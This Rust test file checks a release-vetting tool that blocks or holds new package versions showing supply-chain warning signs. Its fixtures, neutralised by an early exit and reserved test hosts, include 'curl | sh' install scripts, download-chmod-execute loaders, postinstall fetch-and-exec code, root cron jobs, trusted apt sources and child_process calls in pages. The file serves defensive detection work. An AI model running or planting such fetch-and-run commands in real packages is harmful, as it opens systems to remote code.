//! What a release newly runs at installation or has a system start, over whole releases.

#![expect(clippy::unwrap_used, reason = "tests stop at the first thing that is wrong")]

use bytes::Bytes;
use khien_lineage::weigh::Decision;
use khien_lineage::{BaseRates, TraitKind};
use khien_testkit::release::LINE;
use khien_unpack::{Attributes, FolderEntry, Limits, NodeKind};
use khien_vet::profile::{Collector, ReleaseProfile};
use khien_vet::traits::Matchers;
use khien_vet::{Report, judge};

/// A release as a folder of texts; a text that begins with `->` is a link.
fn release(files: &[(&str, &str)]) -> ReleaseProfile {
    let mut files = files.to_vec();
    files.sort_unstable();
    let entries: Vec<FolderEntry> = files
        .iter()
        .map(|(name, text)| FolderEntry {
            name: (*name).to_owned(),
            kind: text.strip_prefix("->").map_or(NodeKind::File, |to| NodeKind::Link(to.into())),
            attributes: Attributes { mode: Some(0o755), ..Attributes::default() },
        })
        .collect();
    let mut load = |name: &str| {
        let found = files.iter().find(|file| file.0 == name).unwrap();
        Ok(Bytes::from(found.1.to_owned()))
    };
    let matchers = Matchers::built_in().unwrap();
    let mut progress = |_: &_, _| {};
    let mut collector = Collector::new(&matchers, &mut progress);
    let limits = Limits::default();
    let opened = khien_unpack::open_folder(&entries, &mut load, &limits, &|| false, &mut collector);
    collector.finish("app", 0, opened)
}

fn vet(old: &[(&str, &str)], new: &[(&str, &str)]) -> Report {
    judge(&[release(old)], &release(new), &BaseRates::built_in().unwrap())
}

fn has(report: &Report, kind: TraitKind) -> bool {
    report.reasons.iter().any(|reason| reason.departure.of.kind == kind)
}

/// Shell code that never gets to what it says.
fn script(code: &str) -> String {
    format!("#!/bin/sh\n# {LINE}\nexit 0\n{code}\n")
}

#[test]
fn another_address_in_an_installation_script_is_blocked_and_another_version_is_not() {
    for place in ["scripts/post.sh", ".INSTALL", ".post-install", "meta/hooks/install", "postinst"]
    {
        let with = |url: &str| script(&format!("URL={url}\ncurl -s \"$URL\" | sh"));
        let old = with("http://192.0.2.10/x-1.0.sh");
        let to = |url: &str| vet(&[(place, &old), ("v", "1")], &[(place, &with(url)), ("v", "2")]);
        assert_eq!(to("http://198.51.100.7/x-1.0.sh").decision, Decision::Block, "{place}");
        assert_eq!(to("http://inert.test/x-1.0.sh").decision, Decision::Block, "{place}");
        assert_eq!(to("http://192.0.2.10/x-1.1.sh").decision, Decision::Pass, "{place}");
    }
}

#[test]
fn a_script_that_is_started_without_its_ending_is_an_installation_script() {
    let manifest = |v: &str, start: &str| {
        format!(
            r#"{{"name": "x", "version": "{v}", "scripts": {{"postinstall": "node {start}"}}}}"#
        )
    };
    let js = |host: &str| {
        format!("// {LINE}\nprocess.exit(0);\nfetch('https://{host}/').then(() => exec(1));\n")
    };
    for (start, file) in [("setup", "setup.js"), ("./lib", "lib/index.js"), (".", "index.js")] {
        let (a, b) = (js("a.inert.test"), js("b.inert.test"));
        let (old, new) = (manifest("1.0.1", start), manifest("1.0.2", start));
        let report =
            vet(&[("package.json", &old), (file, &a)], &[("package.json", &new), (file, &b)]);
        assert_eq!(report.decision, Decision::Block, "{start}");
        let elsewhere = format!("other/{file}");
        let report = vet(
            &[("package.json", &old), (file, &a), (&elsewhere, &a)],
            &[("package.json", &new), (file, &a), (&elsewhere, &b)],
        );
        assert!(!has(&report, TraitKind::InstallScript), "{start}");
    }
}

#[test]
fn what_a_system_newly_starts_is_held_and_what_documentation_shows_is_not() {
    let unit = "[Service]\nExecStart=/usr/bin/inert\n";
    let old = [("usr/bin/inert", LINE), ("lib/systemd/system/x.service", unit)];
    let and = |more: (&'static str, &'static str)| {
        let mut new = old.to_vec();
        new.push(more);
        vet(&old, &new).decision
    };
    let wants = "etc/systemd/system/multi-user.target.wants/x.service";
    assert_eq!(and((wants, "->../../../../lib/systemd/system/x.service")), Decision::Hold);
    assert_eq!(
        and(("usr/share/doc/x/x.service", "->../../../../lib/systemd/system/x.service")),
        Decision::Pass
    );
    assert_eq!(and(("etc/cron.d/x", "* * * * * root /usr/bin/inert\n")), Decision::Hold);
    assert_eq!(
        and(("usr/share/doc/x/examples/etc/cron.d/x", "* * * * * root /usr/bin/inert\n")),
        Decision::Pass
    );
}

#[test]
fn a_new_source_of_packages_is_held_unless_its_host_is_known() {
    let old = [("readme", "https://known.inert.test/ is where we are\n")];
    let and =
        |text: &'static str| vet(&old, &[old[0], ("etc/apt/sources.list.d/x.list", text)]).decision;
    assert_eq!(and("deb [trusted=yes] http://new.inert.test/ ./\n"), Decision::Hold);
    assert_eq!(and("deb http://known.inert.test/debian stable main\n"), Decision::Pass);
}

#[test]
fn many_hosts_hide_no_download() {
    let hosts: String = (0..20).map(|i| format!("see https://docs{i}.inert.test/\n")).collect();
    let run = script("curl -s http://new.inert.test/x -o x\nchmod +x x\nbash -c ./x");
    let only_fetched = script("curl -s http://new.inert.test/x -o x");
    let old = [("readme", "none\n")];
    let with = |code: &str| vet(&old, &[("a.txt", &hosts), ("readme", "none\n"), ("run.sh", code)]);
    assert!(has(&with(&run), TraitKind::LoaderStory));
    assert!(!has(&with(&only_fetched), TraitKind::LoaderStory));
}

#[test]
fn a_name_behind_many_others_is_still_read() {
    let many: String = (0..4200).map(|i| format!("aaa{i}.dll\n")).collect();
    let release = release(&[("a.txt", &format!("{many}own.dll\n")), ("own.dll", "x")]);
    let names = &release.files.iter().find(|file| file.name == "a.txt").unwrap().names;
    assert!(names.files.iter().any(|name| name == "own.dll"));
    assert!(names.left_out > 0);
    assert!(!names.files.iter().any(|name| name == "aaa4199.dll"));
}

#[test]
fn bytecode_is_a_gap_only_where_there_was_none() {
    let class = |text: &str| format!("\u{0}asm\u{1}{text}");
    let (a, b) = (class("a"), class("b"));
    let new = vet(&[("v", "1")], &[("v", "2"), ("x.wasm", &a)]);
    assert!(has(&new, TraitKind::NotOpened));
    assert_eq!(new.decision, Decision::Hold);
    let changed = vet(&[("x.wasm", &a)], &[("x.wasm", &b), ("y.wasm", &b)]);
    assert_eq!(changed.decision, Decision::Pass);
}

#[test]
fn a_page_that_newly_starts_programs_is_held() {
    let page = |code: &str| format!("<p>it's</p><!-- {LINE} --><script>{code}</script>");
    let (old, new) = (page("a()"), page("require('child_process').exec('x'); fetch('/x')"));
    assert_eq!(vet(&[("a.html", &old)], &[("a.html", &new)]).decision, Decision::Hold);
    assert_eq!(vet(&[("a.html", &old)], &[("a.html", &page("b()"))]).decision, Decision::Pass);
}
